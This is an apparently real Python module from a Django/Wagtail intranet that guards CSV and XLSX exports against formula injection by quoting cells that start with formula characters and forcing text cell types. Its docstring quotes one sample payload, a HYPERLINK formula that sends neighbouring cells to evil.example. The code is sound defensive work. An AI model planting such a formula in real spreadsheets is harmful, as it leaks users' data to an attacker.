"""Every spreadsheet the product writes (CSV and XLSX) passes its cells through here, so
that no cell is a formula a spreadsheet program would run (CSV or formula injection,
OWASP «CSV Injection»).

A cell whose text begins with «=», «+», «-», «@», a tab or a carriage return is read as
a formula by Excel, LibreOffice Calc and Google Sheets: a user who names themselves
`=HYPERLINK("http://evil.example/?d="&C2,"Подробнее")` would put a live link that sends
the neighbouring cells away into the heads' report, and an anonymous sign-in attempt
with such a username would put it into the audit log's export. Such text is written
with a single quote in front (`'=HYPERLINK(…)`), the OWASP recommendation: every
program shows it as text, and the reader sees what was typed. In an XLSX file the cell
is also written as a text cell, never as a formula, and loses the control characters
the format cannot hold (XML 1.0 forbids them; openpyxl would refuse the whole file).

Only text is touched: numbers, dates and yes/no values are written as they are, so a
real negative number stays a number (the report's XLSX keeps its number formats).

Used by: the heads' report (cases.reports.views), and through
`SafeSpreadsheetExportMixin` every listing export of the Wagtail admin — our viewsets
(the audit log, units, staff, legal acts, readers' feedback) and Wagtail's own reports
and redirects, whose URLs `admin_urlpatterns()` takes over with the same views made
safe (intranet/urls.py puts them before Wagtail's). tests/security/test_exports.py
fails when an exporting admin view is not one of them."""

from __future__ import annotations

from decimal import Decimal

from django.utils.functional import Promise

# OWASP: the characters a formula may begin with.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"


def neutralise(value):
    """`value` as a cell no spreadsheet runs: text that begins with a formula character
    gets a single quote in front; anything else (numbers, dates, None) is returned as
    it is. Idempotent."""
    if isinstance(value, Promise):  # a lazy translation
        value = str(value)
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return QUOTE + value
    return value


def csv_row(values) -> list:
    """A row for `csv.writer`: each cell through `neutralise`."""
    return [neutralise(value) for value in values]


def xlsx_value(value):
    """A value for an openpyxl cell: text neutralised and without the control
    characters XML cannot carry; numbers, dates and None as they are."""
    value = neutralise(value)
    if isinstance(value, str):
        from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

        value = ILLEGAL_CHARACTERS_RE.sub("", value)
    return value


def is_number(value) -> bool:
    return isinstance(value, int | float | Decimal) and not isinstance(value, bool)


def force_text_cell(cell) -> None:
    """Make sure an openpyxl cell holding text is a text cell, never a formula (openpyxl
    guesses a formula from a leading «=»; `xlsx_value` already removed that, this is
    the second lock)."""
    if isinstance(cell.value, str) and cell.data_type != "s":
        cell.data_type = "s"


class SafeSpreadsheetExportMixin:
    """For a Wagtail listing view with `list_export` (wagtail.admin.views.mixins.
    SpreadsheetExportMixin): every exported value passes `neutralise` (CSV) or
    `xlsx_value` (XLSX) after the view's own preprocessing."""

    def preprocess_field_value(self, field, value, export_format):
        value = super().preprocess_field_value(field, value, export_format)
        if export_format == self.FORMAT_XLSX:
            return xlsx_value(value)
        return neutralise(value)

    def generate_xlsx_row(self, worksheet, row_dict, date_format=None):
        for cell in super().generate_xlsx_row(worksheet, row_dict, date_format=date_format):
            force_text_cell(cell)
            yield cell


def _safe(view_class):
    return type(f"Safe{view_class.__name__}", (SafeSpreadsheetExportMixin, view_class), {})


def admin_urlpatterns() -> list:
    """The Wagtail admin's own exporting views (its reports and the redirects listing),
    made safe, at the same paths under /admin/ (without names: reversing Wagtail's
    names gives the same paths). Decorated as Wagtail decorates its admin views: admin
    access required, its 404 page, never cached."""
    from functools import update_wrapper

    from django.urls import path
    from django.views.decorators.cache import never_cache
    from wagtail.admin.auth import require_admin_access
    from wagtail.admin.urls import display_custom_404
    from wagtail.admin.views.reports.aging_pages import AgingPagesView
    from wagtail.admin.views.reports.audit_logging import LogEntriesView
    from wagtail.admin.views.reports.locked_pages import LockedPagesView
    from wagtail.admin.views.reports.workflows import WorkflowTasksView, WorkflowView
    from wagtail.contrib.redirects.views import IndexView as RedirectsIndexView

    routes = [
        ("reports/locked/", LockedPagesView),
        ("reports/workflow/", WorkflowView),
        ("reports/workflow_tasks/", WorkflowTasksView),
        ("reports/site-history/", LogEntriesView),
        ("reports/aging-pages/", AgingPagesView),
        ("redirects/", RedirectsIndexView),
    ]
    patterns = []
    for route, view_class in routes:
        safe = _safe(view_class)
        for suffix, kwargs in (("", {}), ("results/", {"results_only": True})):
            view = safe.as_view(**kwargs)
            for decorator in (require_admin_access, display_custom_404, never_cache):
                view = update_wrapper(decorator(view), view)
            patterns.append(path(route + suffix, view))
    return patterns
